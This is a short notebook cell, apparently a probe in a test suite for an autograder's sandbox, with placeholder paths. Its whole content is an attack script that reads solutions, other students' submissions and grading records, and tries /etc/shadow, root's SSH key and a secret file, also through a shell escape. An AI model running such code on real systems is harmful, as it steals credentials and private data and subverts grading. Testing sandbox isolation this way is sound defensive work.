"""Reads the seed, the gradebook, the solutions, the records and another student's work."""
# %% extra
import os, glob

def loot(path):
    try:
        print(path, open(path, "rb").read(100_000))
    except Exception as error:
        print(type(error).__name__)

for pattern in ("solutions/*/*", "submitted/*/*/*", "autograded/*/*/*", "verdicts/*/*", ".autograder/*", "*", "*.db"):
    for path in ["@COURSE@/" + pattern, *glob.glob("@COURSE@/" + pattern), *glob.glob("../../../" + pattern)]:
        loot(path)
for path in ("@SECRET@", "/etc/shadow", "/root/.ssh/id_rsa", os.path.expanduser("~root/.bashrc")):
    loot(path)
!cat @COURSE@/.autograder/canary @SECRET@ @COURSE@/submitted/*/*/*
